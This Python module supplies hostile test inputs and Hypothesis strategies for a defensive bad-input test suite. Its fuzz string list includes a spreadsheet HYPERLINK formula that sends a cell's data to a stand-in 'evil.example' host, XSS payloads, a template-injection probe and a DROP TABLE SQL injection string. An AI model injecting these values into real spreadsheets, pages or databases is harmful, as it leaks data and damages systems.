"""Hostile input for the bad-input suite: the strings, numbers and shapes production will eventually send.

Every test in tests/badinput runs hypothesis with ``COMMON`` settings: derandomized (the same examples on every
run and every machine) and without the example database, so CI is stable and a failure reproduces anywhere.
"""
from __future__ import annotations

import math

from hypothesis import HealthCheck
from hypothesis import strategies as st

COMMON = dict(deadline=None, derandomize=True, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                     HealthCheck.data_too_large, HealthCheck.filter_too_much])

# Strings that have broken real systems: unstorable characters (NUL, lone surrogates), spreadsheet formulas,
# markup, template syntax, SQL, direction overrides, BOMs, line breaks, huge and numeric-looking text.
NASTY = [
    "", " ", "\x00", "a\x00b", "\ud800", "x\udfff", "\ud83d", "\x7f\x1b[31m", "\u202egnp.exe", "\ufeff", "\u200b",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1", "-1", "@SUM(A1:A2)", "\t=1", "\r=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ ''.__class__.__mro__ }}", "{% for x in y %}",
    "'; DROP TABLE lead; --", "null", "None", "NaN", "Infinity", "1e400", "-0", "0x10", "Zürich", "東京",
    "😀" * 3, "\r\n", "line1\nline2", "\\", '"', "'", "a" * 5000, "9" * 400, "é" * 300,
]

text_any = st.text(alphabet=st.characters(exclude_categories=()), max_size=30)  # surrogates included
nasty_text = st.one_of(st.sampled_from(NASTY), st.text(max_size=30), text_any)

json_scalar = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(min_value=10 ** 20, max_value=10 ** 200),
    st.floats(allow_nan=True, allow_infinity=True), nasty_text,
)
json_value = st.recursive(
    json_scalar, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(nasty_text, inner, max_size=4),
    max_leaves=10,
)


def deep(n: int = 5000):
    """A value nested ``n`` levels deep (deeper than any recursive encoder or decoder allows)."""
    v: object = "bottom"
    for _ in range(n):
        v = [v]
    return v


def storable(text: str) -> bool:
    """What every message shown to a person or written to a database must be: UTF-8 text without NUL."""
    if "\x00" in text:
        return False
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def finite_json(obj) -> bool:
    """True when ``obj`` serialises as strict JSON (no NaN/Infinity) to valid UTF-8 without NUL."""
    import json

    try:
        s = json.dumps(obj, allow_nan=False, ensure_ascii=False, default=str)
    except (ValueError, RecursionError):
        return False
    return storable(s)


def is_finite(x) -> bool:
    return not (isinstance(x, float) and not math.isfinite(x))
